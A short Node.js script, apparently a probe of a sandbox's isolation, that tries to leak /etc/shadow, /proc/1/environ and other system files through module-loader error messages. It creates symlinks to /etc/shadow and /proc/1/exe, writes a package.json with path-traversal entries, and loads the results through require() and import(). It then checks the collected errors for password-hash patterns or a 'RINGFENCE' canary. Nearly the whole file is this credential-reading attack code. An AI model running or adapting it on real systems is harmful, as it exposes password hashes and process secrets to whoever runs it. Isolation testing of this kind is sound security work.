// Read a host file: errors of the loader quote what is no program, so load secrets as programs, data and addons.
'use strict';
const fs = require('node:fs');

const said = [];
const note = (error) => said.push(error.stack, error.message, String(error.cause));
const NAMES = ['/etc/shadow', '/proc/1/environ', '/proc/1/maps', '/proc/self/root/etc/shadow', '/root', '/proc/kallsyms', '/../../etc/shadow'];
fs.symlinkSync('/etc/shadow', 'data.json');
fs.symlinkSync('/proc/1/exe', 'addon.node');
fs.writeFileSync('package.json', '{"main": "/etc/shadow", "imports": {"#x": "./../../../etc/shadow"}, "exports": "../../etc/shadow"}');
for (const name of [...NAMES, './data.json', './addon.node', '/work', '#x']) {
  try {
    said.push(`loaded ${name} ${typeof require(name)}`);
  } catch (error) {
    note(error);
  }
}
const urls = ['file:///etc/shadow', 'file://localhost/etc/shadow', 'file:///proc/1/environ', 'http://127.0.0.1/x.mjs', 'data:text/javascript,export default 1'];
Promise.allSettled(urls.map((url) => import(url))).then((results) => {
  for (const { reason, value } of results) reason ? note(reason) : said.push(`imported ${value.default}`);
  const text = said.join('\n');
  const loaded = said.filter((line) => /^(loaded|imported)/.test(line));
  console.log(`OUTCOME: quoted a secret: ${/root:|RINGFENCE|\$[0-9y]\$/.test(text)}, loaded: [${loaded}]`);
});
